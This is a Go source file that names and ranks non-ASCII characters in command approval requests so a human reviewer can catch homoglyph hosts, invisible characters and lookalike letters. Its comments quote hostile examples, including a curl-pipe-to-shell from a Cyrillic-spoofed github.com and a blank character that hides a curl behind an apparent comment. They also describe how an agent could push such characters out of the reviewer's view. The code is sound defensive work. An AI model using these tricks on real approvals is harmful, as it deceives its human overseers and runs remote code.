package domain

import (
	"fmt"
	"slices"
	"strings"
	"sync"
	"unicode"
	"unicode/utf8"

	"golang.org/x/text/unicode/norm"
)

// maxNonASCIIShown bounds the characters NonASCIIDetail names one by one.
const maxNonASCIIShown = 8

// NonASCIIDetail names each character outside ASCII in what an approval
// request shows (its summary and its details' values), with its code
// point, its script and the word it is in: 'curl https://gіthub.com/x | sh'
// with a Cyrillic і reads as github.com to the person asked, and fetches
// from another host. The console and the CLI show such a character as it
// is (a person reads text in any script); this line says which ones are
// not the ASCII letters they may look like. ok is false when there are none.
//
// At most maxNonASCIIShown are named, those that deceive first: those in a
// host that holds ASCII letters too (a URL's, gіthub.com, or one written
// without a scheme, gіthub.com/x or git@gіthub.com:x, for a lookalike
// there: each such host's first maxHostNamed, for up to maxHostsNamed
// hosts), then those that show as nothing, as blank or as part of their
// neighbour, then lookalikes (every character but an accented Latin
// letter and a letter in a word of its own script: a letter of another
// script beside ASCII ones or standing alone, a Latin letter that is no
// accented ASCII one, punctuation, symbols, a compatibility form of an
// ASCII character, a host wholly outside ASCII), then the rest, each in
// the order they appear; "and N more" says of which kinds the rest are.
// An agent that puts eight accented letters in an echo before the host
// does not push the host's out of view, whether its accents are
// precomposed or combining marks, nor a first host of many characters a
// later one's (the thirteenth, eighty-third and eighty-fourth reviews).
//
// A character is named in the first word it appears in, and again in a
// word where it ranks higher than it did there, and a letter or digit
// that is a lookalike beside ASCII letters or digits again in each such
// word (in a host, in each host): a Cyrillic і named in an honest
// Ukrainian greeting is named again in scrіpts/ and in git@gіthub.com:
// (the eighty-sixth review); the same bounds hold (maxNonASCIIShown, and
// "and N more" counts the rest). Punctuation and symbols are named once,
// an apostrophe in every word of a sentence filling the line otherwise.
func NonASCIIDetail(summary string, details []Detail) (d Detail, ok bool) {
	hostSeen := map[string]bool{} // a host's rune in that host
	best := map[rune]int{}        // the highest rank (lowest number) a rune was named or counted at
	wordSeen := map[string]bool{} // a letter beside ASCII ones, in that word
	perHost := map[string]int{}
	ranks := map[rune]runeRank{} // rankOf each rune met
	var ranked [nonASCIIRanks][]string
	var more [nonASCIIRanks]int
	scan := func(s string) {
		var tok wordSeg             // the last run of non-space characters met in s
		var seg hostSeg             // the last name schemelessHost looked at in s
		var url hostSeg             // the last name urlHost looked at in s
		lastToken := map[rune]int{} // where the run a letter beside ASCII was last met in starts, plus one
		for i, r := range s {
			if r < utf8.RuneSelf {
				continue
			}
			word := wordAt(s, i, &tok)
			alnum := tok.alnum && (tok.runes <= 49 || hasASCIIAlnum(word))
			k, known := ranks[r]
			if !known {
				k = rankOf(r)
				ranks[r] = k
			}
			rank := k.in(r, word, alnum, markBase(s, i))
			host, inHost := urlHost(s, i, &url)
			switch {
			case inHost && hasASCIILetter(host):
				rank = 0
			case inHost:
				rank = min(rank, 2) // a host wholly outside ASCII
			case rank <= 2:
				// A lookalike in a host written without a scheme.
				if host, inHost = schemelessHost(s, i, &seg); inHost && hasASCIILetter(host) {
					rank = 0
				}
			}
			if rank == 0 {
				key := host + "\x00" + string(r)
				if hostSeen[key] {
					continue
				}
				hostSeen[key] = true
			} else {
				b, met := best[r]
				again := false
				if rank == 2 && alnum && (unicode.IsLetter(r) || unicode.IsNumber(r)) && lastToken[r] != tok.start+1 {
					// A letter beside ASCII ones: its first in this word.
					lastToken[r] = tok.start + 1
					key := string(r) + "\x00" + word
					again = !wordSeen[key]
					wordSeen[key] = true
				}
				if met && rank >= b && !again {
					continue
				}
				if !met || rank < b {
					best[r] = rank
				}
			}
			n := 0
			for k := 0; k <= rank; k++ {
				n += len(ranked[k])
			}
			switch {
			case rank == 0 && (perHost[host] >= maxHostNamed || len(perHost) >= maxHostsNamed && perHost[host] == 0):
				more[rank]++
				continue
			case rank > 0 && n >= max(maxNonASCIIShown, len(ranked[0])):
				more[rank]++
				continue
			}
			if rank == 0 {
				perHost[host]++
			}
			ranked[rank] = append(ranked[rank], fmt.Sprintf("U+%04X (%s) in %q", r, scriptOf(r), word))
		}
	}
	scan(summary)
	for _, x := range details {
		scan(x.Value)
	}
	var parts []string
	for k, p := range ranked {
		keep := max(maxNonASCIIShown, len(ranked[0])) - len(parts)
		if len(p) > keep {
			more[k] += len(p) - keep
			p = p[:keep]
		}
		parts = append(parts, p...)
	}
	if len(parts) == 0 {
		return Detail{}, false
	}
	v := strings.Join(parts, "; ")
	total := 0
	var kinds []string
	for k, m := range more {
		if m > 0 {
			total += m
			kinds = append(kinds, fmt.Sprintf("%d %s", m, nonASCIIKinds[k]))
		}
	}
	if total > 0 {
		v += fmt.Sprintf("; and %d more (%s)", total, strings.Join(kinds, ", "))
	}
	return Detail{Label: "Characters outside ASCII", Value: v, Monospace: true}, true
}

// maxHostNamed and maxHostsNamed bound the characters of hosts that hold
// ASCII letters NonASCIIDetail names: each host's first maxHostNamed, of
// up to maxHostsNamed hosts.
const (
	maxHostNamed  = 4
	maxHostsNamed = 16
)

// nonASCIIRanks is how many ranks nonASCIIRank gives; nonASCIIKinds names
// each, for "and N more".
const nonASCIIRanks = 4

var nonASCIIKinds = [nonASCIIRanks]string{"in a host", "invisible, blank or attached", "lookalike", "other"}

// nonASCIIRank orders the characters NonASCIIDetail names (a host's are
// ranked 0 by NonASCIIDetail): 1 for one that shows as nothing, as blank
// or as part of its neighbour (a format control: zero width, bidi; a
// space other than ' ', a character that draws as blank or nothing
// (BlankDrawing: variation selectors, the default-ignorable, U+FFFC); a
// combining mark on anything but a Latin letter; private use or
// unassigned); 3 for an accented Latin letter (precomposed, its canonical
// decomposition an ASCII letter and at least one mark, or a combining
// mark on its Latin base: base is the letter a mark attaches to, 0 for
// none) and for a letter, digit or spacing mark of a script other than
// Latin in a word of its own script (another letter of that script in
// it, no ASCII letter or digit); 2, a lookalike, for every other one: a
// letter of another script beside ASCII ones (a Cyrillic о in a path) or
// standing alone (ᐦ as a word of its own), a Latin letter with no ASCII
// one under it (ı, ɡ, ø) or whose decomposition is ASCII (the Kelvin sign
// K), punctuation, symbols of every kind (﹟, ʺ, ❝, €, an emoji), a
// modifier, a compatibility form of an ASCII character (a fullwidth
// letter). The eighty-sixth review found a symbol (So) shaped as a quote,
// a lone syllabic and the Kelvin sign ranked with accents, and pushed out
// by eight of them.
func nonASCIIRank(r rune, word string, base rune) int {
	return rankOf(r).in(r, word, hasASCIIAlnum(word), base)
}

// runeRank is what nonASCIIRank knows of a character wherever it is: its
// rank, or rankOfMark (a combining mark: its base decides) or
// rankOfWord (a letter of another script: its word decides, tables
// being its script).
type runeRank struct {
	rank   int
	tables []*unicode.RangeTable
}

const (
	rankOfMark = -1
	rankOfWord = -2
)

func rankOf(r rune) runeRank {
	switch {
	case BlankDrawing(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp, unicode.Co, unicode.Cc) || !unicode.In(r, unicode.L, unicode.M, unicode.N, unicode.P, unicode.S, unicode.Z, unicode.C):
		return runeRank{rank: 1}
	case unicode.In(r, unicode.Mn, unicode.Me):
		return runeRank{rank: rankOfMark}
	case decomposesToASCII(r):
		return runeRank{rank: 2} // K (the Kelvin sign), a fullwidth A
	case accentedLatin(r):
		return runeRank{rank: 3}
	case unicode.In(r, unicode.L, unicode.N, unicode.Mc):
		if t := scriptTables(r); t != nil {
			return runeRank{rank: rankOfWord, tables: t}
		}
	}
	return runeRank{rank: 2}
}

// in is the rank of r in word (alnum: which holds an ASCII letter or
// digit), after base (the letter a combining mark attaches to, 0 for
// none).
func (k runeRank) in(r rune, word string, alnum bool, base rune) int {
	switch k.rank {
	case rankOfMark:
		if base != 0 && unicode.IsLetter(base) && (base < utf8.RuneSelf || unicode.Is(unicode.Latin, base)) {
			return 3
		}
		return 1
	case rankOfWord:
		if !alnum && inWordOfItsScript(r, word, k.tables) {
			return 3
		}
		return 2
	}
	return k.rank
}

// decomposesToASCII reports whether r's canonical or compatibility
// decomposition is ASCII only.
func decomposesToASCII(r rune) bool {
	for _, f := range []norm.Form{norm.NFD, norm.NFKC} {
		d := f.String(string(r))
		ascii := d != ""
		for i := 0; i < len(d); i++ {
			if d[i] >= utf8.RuneSelf {
				ascii = false
				break
			}
		}
		if ascii {
			return true
		}
	}
	return false
}

// accentedLatin reports whether r is a Latin letter whose canonical
// decomposition is an ASCII letter and one mark or more (é, ñ; not ı, ø).
func accentedLatin(r rune) bool {
	if !unicode.IsLetter(r) || !unicode.Is(unicode.Latin, r) {
		return false
	}
	d := norm.NFD.String(string(r))
	if len(d) < 2 || !isASCIILetter(d[0]) {
		return false
	}
	for _, m := range d[1:] {
		if !unicode.In(m, unicode.Mn, unicode.Me) {
			return false
		}
	}
	return true
}

// cjkScripts are written together in one word (Japanese mixes Han,
// Hiragana and Katakana; Korean Hangul and Han).
var cjkScripts = []*unicode.RangeTable{unicode.Han, unicode.Hiragana, unicode.Katakana, unicode.Bopomofo, unicode.Hangul}

// scriptTables is the script of r, as the tables a word of its script may
// be written in: nil for Latin, Common, Inherited and none.
func scriptTables(r rune) []*unicode.RangeTable {
	if unicode.In(r, unicode.Latin, unicode.Common, unicode.Inherited) {
		return nil
	}
	if unicode.In(r, cjkScripts...) {
		return cjkScripts
	}
	scriptNamesOnce.Do(loadScriptNames)
	for _, name := range scriptNames {
		if t := unicode.Scripts[name]; unicode.Is(t, r) {
			return []*unicode.RangeTable{t}
		}
	}
	return nil
}

// inWordOfItsScript reports whether r, a letter, digit or spacing mark
// of a script other than Latin (tables), is in a word written in that
// script, one with no ASCII letter or digit: whether word holds another
// letter of the script (not r again: ᐦᐦ is no word).
func inWordOfItsScript(r rune, word string, tables []*unicode.RangeTable) bool {
	for _, c := range word {
		if c != r && unicode.IsLetter(c) && unicode.In(c, tables...) {
			return true
		}
	}
	return false
}

// isASCIILetter reports whether c is an ASCII letter.
func isASCIILetter(c byte) bool {
	c |= 0x20
	return c >= 'a' && c <= 'z'
}

// hasASCIIAlnum reports whether s holds an ASCII letter or digit.
func hasASCIIAlnum(s string) bool {
	for i := 0; i < len(s); i++ {
		if c := s[i]; c >= '0' && c <= '9' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' {
			return true
		}
	}
	return false
}

// hasASCIILetter reports whether s holds an ASCII letter.
func hasASCIILetter(s string) bool {
	for i := 0; i < len(s); i++ {
		if c := s[i] | 0x20; c >= 'a' && c <= 'z' {
			return true
		}
	}
	return false
}

// markBase is the character a combining mark at byte i of s attaches to:
// the nearest before it that is no mark (at most 16 back), 0 for none.
func markBase(s string, i int) rune {
	for n := 0; i > 0 && n < 16; n++ {
		r, size := utf8.DecodeLastRuneInString(s[:i])
		if !unicode.In(r, unicode.Mn, unicode.Me) {
			return r
		}
		i -= size
	}
	return 0
}

// BlankDrawing reports whether r draws as a blank, or as nothing, but is
// not the ASCII space, so that a shell reads a word where a person sees two
// or reads another word than the one seen: a space other than ' ' (U+00A0
// no-break, U+2000–U+200A, U+3000, …), U+2800 BRAILLE PATTERN BLANK, a
// variation selector (U+FE00…) and the other default-ignorable characters
// (U+034F, the Hangul fillers U+115F, U+1160, U+3164, U+FFA0, …): `echo
// done⠀#; curl …` reads as a comment and runs the curl, `scripts\uFE00/x`
// reads as scripts/x (the eighty-third and eighty-fourth reviews); and the
// symbols that draw as nothing or as a blank though no property says so
// (blankSymbols: U+FFFC, which Chromium draws with no width, U+1D159; the
// eighty-sixth review). The console (app.js hiddenChars) and the CLI show
// them as escapes; the two lists must be the same.
func BlankDrawing(r rune) bool {
	if r == '\u2800' || strings.ContainsRune(blankSymbols, r) || unicode.In(r, unicode.Variation_Selector, unicode.Other_Default_Ignorable_Code_Point) {
		return true
	}
	return r != ' ' && unicode.Is(unicode.Zs, r)
}

// blankSymbols draw as nothing or as a blank: U+FFFC OBJECT REPLACEMENT
// CHARACTER (no width in Chromium), U+303F IDEOGRAPHIC HALF FILL SPACE,
// U+1D159 MUSICAL SYMBOL NULL NOTEHEAD (blank where a music font is
// installed), U+16FE4 KHITAN SMALL SCRIPT FILLER (a mark that fills an
// empty place, on a Latin letter no accent).
const blankSymbols = "\uFFFC\u303F\U0001D159\U00016FE4"

// urlHost returns the authority of the URL that byte i of s lies in (after
// '://', before the next '/', '?', '#' or space, at most 260 bytes after
// '://'), if it lies in one. last is the name it looked at before in s, to
// look at each once.
func urlHost(s string, i int, last *hostSeg) (string, bool) {
	const bounds = "/?# \t\n\r"
	if i < last.start || i >= last.end {
		start, end := i, i
		for start > 0 && !strings.ContainsRune(bounds, rune(s[start-1])) {
			start--
		}
		for end < len(s) && !strings.ContainsRune(bounds, rune(s[end])) {
			end++
		}
		*last = hostSeg{start: start, end: end, host: start >= 3 && s[start-3:start] == "://"}
	}
	if !last.host || i-last.start >= 260 {
		return "", false
	}
	return s[last.start:last.end], true
}

// hostSeg is the name schemelessHost last looked at in a string: s[start:end],
// and whether it is a host.
type hostSeg struct {
	start, end int
	host       bool
}

// hostBounds end a name that may be a host written without a scheme:
// space, the shell's quotes and operators, '=' of --url=host, and the
// characters around a host ('@' before it, '/', ':', '?', '#' after it).
const hostBounds = "\"'`;|&()<>{}[]=,\\@/:?#"

func isHostBound(r rune) bool {
	return unicode.IsSpace(r) || strings.ContainsRune(hostBounds, r)
}

// schemelessHost returns the host written without a scheme that byte i
// of s lies in, if it lies in one, as curl, git, scp, ssh and rsync read
// it: a name between hostBounds, at most 253 bytes, that is dot-separated
// (two labels or more: gіthub.com/x.sh, gіthub.com:repo) or follows an
// '@' (git@gіthub:repo), and does not follow a '/', ':', '?' or '#' (a
// path's, a port's). last is the name it looked at before in s, to look
// at each once.
func schemelessHost(s string, i int, last *hostSeg) (string, bool) {
	if i < last.start || i >= last.end {
		start, end := i, i
		for start > 0 {
			r, size := utf8.DecodeLastRuneInString(s[:start])
			if isHostBound(r) {
				break
			}
			start -= size
		}
		for end < len(s) {
			r, size := utf8.DecodeRuneInString(s[end:])
			if isHostBound(r) {
				break
			}
			end += size
		}
		*last = hostSeg{start: start, end: end}
		var before rune
		if start > 0 {
			before, _ = utf8.DecodeLastRuneInString(s[:start])
		}
		if end-start <= 253 && !strings.ContainsRune("/:?#", before) {
			labels := 0
			for _, l := range strings.Split(s[start:end], ".") {
				if l != "" {
					labels++
				}
			}
			last.host = labels >= 2 || before == '@'
		}
	}
	return s[last.start:last.end], last.host
}

// wordSeg is the run of non-space characters wordAt last looked at in a
// string: s[start:end], runes long.
type wordSeg struct {
	start, end, runes int
	alnum             bool // it holds an ASCII letter or digit
}

// wordAt is the word byte i of s is in, as NonASCIIDetail names it: the
// run of non-space characters around it, at most 48 characters before it
// and 48 after it. last is the run it looked at before in s, to look at
// each once (a long command's characters outside ASCII are many).
func wordAt(s string, i int, last *wordSeg) string {
	if i < last.start || i >= last.end {
		start, end := i, i
		for start > 0 {
			r, size := utf8.DecodeLastRuneInString(s[:start])
			if unicode.IsSpace(r) {
				break
			}
			start -= size
		}
		for end < len(s) {
			r, size := utf8.DecodeRuneInString(s[end:])
			if unicode.IsSpace(r) {
				break
			}
			end += size
		}
		*last = wordSeg{start: start, end: end, runes: utf8.RuneCountInString(s[start:end]), alnum: hasASCIIAlnum(s[start:end])}
	}
	if last.runes <= 49 {
		return s[last.start:last.end]
	}
	start, end := i, i
	for n := 0; start > last.start && n < 48; n++ {
		_, size := utf8.DecodeLastRuneInString(s[:start])
		start -= size
	}
	for n := 0; end < last.end && n < 49; n++ {
		_, size := utf8.DecodeRuneInString(s[end:])
		end += size
	}
	return s[start:end]
}

var (
	scriptNamesOnce sync.Once
	scriptNames     []string // unicode.Scripts' names, sorted
)

func loadScriptNames() {
	for name := range unicode.Scripts {
		scriptNames = append(scriptNames, name)
	}
	slices.Sort(scriptNames)
}

// scriptOf names the Unicode script of r ("Unknown" for none).
func scriptOf(r rune) string {
	scriptNamesOnce.Do(loadScriptNames)
	for _, name := range scriptNames {
		if unicode.Is(unicode.Scripts[name], r) {
			return name
		}
	}
	return "Unknown"
}
